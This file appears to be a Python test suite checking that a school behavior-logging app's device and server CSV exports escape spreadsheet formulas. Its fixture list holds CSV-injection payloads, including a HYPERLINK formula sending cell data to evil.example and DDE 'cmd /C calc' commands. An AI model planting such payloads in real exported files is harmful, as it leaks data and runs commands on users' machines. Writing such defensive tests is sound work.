"""Attack: text that a spreadsheet runs as a formula (``=HYPERLINK(...)`` and friends) in a
note, exported as CSV by the teacher's device and by the district server. Both exports escape it
the same way, through one function."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import httpx
from serverkit import Fleet, incident_fields

from schema.spreadsheet import FORMULA_STARTS, spreadsheet_cell

HOSTILE_NOTES = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def _classlog(home: Path, *args: str) -> subprocess.CompletedProcess[bytes]:
    env = {**os.environ, "CLASSLOG_HOME": str(home), "TZ": "UTC"}
    return subprocess.run(
        [sys.executable, "-m", "classlog", *args],
        env=env, capture_output=True, timeout=60, check=False,
    )  # fmt: skip


def test_the_devices_csv_export_escapes_formulas(device_home: Path) -> None:
    for level, note in zip(("1", "2") * 4, HOSTILE_NOTES, strict=False):
        logged = _classlog(
            device_home, "log", "add", "--student", "s-1", "--behavior", "DIS-CLASS",
            "--level", level, "--action", "redirect", f"--note={note}",
            *(("--bypass-reason", "safety of the class") if level == "2" else ()),
        )  # fmt: skip
        assert logged.returncode == 0, logged.stderr
    exported = _classlog(device_home, "export", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = _cells(exported.stdout.decode("utf-8"))
    _assert_no_formula(rows)
    assert len(rows) == len(HOSTILE_NOTES) + 1, "a line break in a cell must not split its row"
    notes = {row[rows[0].index("note")] for row in rows[1:]}
    assert notes == {spreadsheet_cell(note) for note in HOSTILE_NOTES}
    assert all(note.startswith("'") for note in notes)


async def test_the_servers_csv_export_escapes_formulas_the_same_way(
    http: httpx.AsyncClient, fleet: Fleet
) -> None:
    device = fleet.classroom_1a
    ops = [
        device.op("incident", f"inc-formula-{number}", incident_fields(
            "st1", device.device_id, note=note, location=note,
        ))
        for number, note in enumerate(HOSTILE_NOTES)
    ]  # fmt: skip
    assert await device.statuses(*ops) == ["applied"] * len(ops)
    exported = await http.get(
        "/v1/admin/export", params={"format": "csv"}, headers=fleet.admin_1.headers
    )
    assert exported.status_code == 200
    rows = _cells(exported.text)
    _assert_no_formula(rows)
    assert len(rows) == len(HOSTILE_NOTES) + 1, "a line break in a cell must not split its row"
    notes = {row[rows[0].index("note")] for row in rows[1:]}
    assert notes == {spreadsheet_cell(note) for note in HOSTILE_NOTES}


def test_numbers_and_plain_text_are_left_alone() -> None:
    assert spreadsheet_cell(-1) == "-1"
    assert spreadsheet_cell(0.5) == "0.5"
    assert spreadsheet_cell(True) == "true"
    assert spreadsheet_cell(None) == ""
    assert spreadsheet_cell(["redirect", "iss"]) == "redirect;iss"
    assert spreadsheet_cell("Hallway - east") == "Hallway - east"
    assert spreadsheet_cell("=1") == "'=1"
